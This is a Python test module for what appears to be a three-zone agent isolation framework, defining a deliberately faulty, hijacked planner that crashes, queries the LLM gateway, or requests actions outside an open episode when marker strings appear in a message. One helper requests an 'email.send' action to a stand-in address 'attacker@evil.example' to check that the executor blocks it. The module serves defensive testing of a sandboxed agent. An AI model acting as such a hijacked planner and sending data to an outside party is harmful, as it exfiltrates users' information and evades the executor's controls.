"""A planner zone that misbehaves on request, for fault tests of the executor.

It is the hijacked planner, except that a message body containing one of these
markers makes it fail:

``PLANNER-CRASH-AFTER-ACTION``  request the usual actions, then exit mid-episode;
``PLANNER-FOREIGN-EPISODE``     request an action for an episode that is not open,
                                and report the executor's answer as the summary.
``PLANNER-ASK-LLM``             ask the executor's LLM gateway about the body and
                                report its answer (or error code) as the summary.

Start it through the executor with ``zone_modules={"planner": MODULE}``.
"""

from __future__ import annotations

import os
import sys
from typing import ClassVar

from threezone.planner.base import ActionPort, PlanOutcome
from threezone.planner.hijacked import HijackedPlanner
from threezone.protocol.messages import ActionRequest, ChatMessage, Episode, LLMResponse
from threezone.zones.client import ZoneClient, parse_args
from threezone.zones.planner_main import ZonePort, make_handler
from threezone.zones.serve import serve

MODULE = __name__


class FaultyPlanner(HijackedPlanner):
    name: ClassVar[str] = "faulty"

    def plan(self, episode: Episode, port: ActionPort) -> PlanOutcome:
        body = episode.message.body
        if "PLANNER-ASK-LLM" in body:
            reply = port.complete([ChatMessage(role="user", content=body[:2000])], 64)
            summary = f"llm: {reply.content}" if isinstance(reply, LLMResponse) else reply.code
            return PlanOutcome(summary=summary[:1000], steps=1)
        if "PLANNER-FOREIGN-EPISODE" in body and isinstance(port, ZonePort):
            return PlanOutcome(summary=_foreign_episode(port.client), steps=1)
        outcome = super().plan(episode, port)
        if "PLANNER-CRASH-AFTER-ACTION" in body:
            os._exit(71)
        return outcome


def _foreign_episode(client: ZoneClient) -> str:
    request_id = client.next_id()
    request = ActionRequest(
        id=request_id,
        episode_id="ep-not-open",
        action="email.send",
        args={"to": "attacker@evil.example", "body": "x"},
    )
    reply = client.call(request, request_id)
    return f"{type(reply).__name__}: {getattr(reply, 'code', '')}"


def main(argv: list[str] | None = None) -> int:
    return serve(parse_args("planner", argv), make_handler(FaultyPlanner))


if __name__ == "__main__":
    sys.exit(main())
